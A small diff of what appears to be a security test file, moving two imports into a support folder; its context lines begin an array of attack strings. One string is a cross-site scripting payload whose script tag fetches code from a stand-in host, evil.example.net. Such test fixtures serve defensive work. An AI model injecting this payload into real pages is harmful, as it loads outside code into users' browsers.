@@ -1,5 +1,5 @@
-import { expect, test } from "./app";
-import { conversation } from "./webhook";
+import { expect, test } from "./support/app";
+import { conversation } from "./support/webhook";
 
 const attacks = [
   "<script>window.attacked = 1; fetch('https://evil.example.net/script')</script>",
